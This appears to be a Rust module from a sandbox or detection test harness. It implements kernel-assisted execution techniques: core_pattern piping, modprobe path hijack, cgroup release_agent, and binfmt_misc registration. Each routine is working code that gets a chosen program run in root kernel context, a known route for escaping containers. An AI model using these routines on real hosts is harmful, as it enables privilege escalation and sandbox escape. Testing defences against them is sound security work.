//! Programs that the kernel starts for us: dumps, modules, groups, foreign formats.

use std::fs;
use std::time::Duration;

use crate::outcome::{Failure, Tried};
use crate::scene::{Scene, child};
use crate::sys::{self, call};
use crate::technique::Class::Exec;
use crate::technique::{Technique, must};

/// How long a helper that was refused is looked for in vain.
const LOOK: Duration = Duration::from_secs(2);

/// All of them.
pub const ALL: &[Technique] = &[
    must(Exec, "exec-core-pattern", |scene| {
        let _ = fs::remove_file(scene.ran());
        with("/proc/sys/kernel/core_pattern", &format!("|{}", scene.program()), || {
            let limit = [u64::MAX; 2];
            let resource = libc::RLIMIT_CORE;
            let _ = child(|| {
                call!(SYS_prlimit64, 0, resource, sys::at(&limit), 0)?;
                call!(SYS_kill, std::process::id(), libc::SIGQUIT)?;
                Ok(true)
            });
            Ok(scene.runs_soon(LOOK))
        })
    }),
    must(Exec, "exec-modprobe-path", |scene| {
        let _ = fs::remove_file(scene.ran());
        with("/proc/sys/kernel/modprobe", &scene.program(), || {
            // A protocol that no module has.
            let _ = call!(SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 250);
            Ok(scene.runs_soon(LOOK))
        })
    }),
    must(Exec, "exec-release-agent", |scene| {
        let _ = fs::remove_file(scene.ran());
        scene.own_mounts()?;
        let top = scene.work("groups");
        fs::create_dir_all(&top)?;
        scene.mount("cgroup", &top, "none,name=evasion")?;
        fs::write(format!("{top}/release_agent"), scene.program())?;
        let group = format!("{top}/{}", scene.place.word());
        fs::create_dir_all(&group)?;
        fs::write(format!("{group}/notify_on_release"), "1")?;
        child(|| {
            fs::write(format!("{group}/cgroup.procs"), "0")?;
            Ok(true)
        })?;
        Ok(scene.runs_soon(LOOK))
    }),
    must(Exec, "exec-foreign-format", |scene| foreign(scene, "")),
    must(Exec, "exec-foreign-format-held-open", |scene| foreign(scene, "F")),
    must(Exec, "exec-foreign-format-by-descriptor", |scene| foreign(scene, "OC")),
];

/// Sets a file of /proc/sys for as long as something is done.
fn with(path: &str, value: &str, act: impl FnOnce() -> Tried) -> Tried {
    let before = fs::read(path)?;
    fs::write(path, value)?;
    let tried = act();
    fs::write(path, before)?;
    tried
}

/// Registers the program as what runs files that begin in some way.
fn foreign(scene: &Scene, flags: &str) -> Tried {
    let formats = "/proc/sys/fs/binfmt_misc";
    if !fs::exists(format!("{formats}/register"))? {
        if !fs::exists(formats)? {
            return Err(Failure::Unsupported("binfmt_misc is not loaded".to_owned()));
        }
        scene.mount("binfmt_misc", formats, "")?;
    }
    let magic = format!("EV{}{}", scene.number, scene.place.word());
    let name = format!("ev{}{}", scene.number, scene.place.word());
    let line = format!(":{name}:M::{magic}::{}:{flags}", scene.program());
    fs::write(format!("{formats}/register"), line)?;
    let file = scene.work("foreign");
    fs::write(&file, magic)?;
    fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let tried = scene.run(&file);
    let _ = fs::write(format!("{formats}/{name}"), "-1");
    tried
}
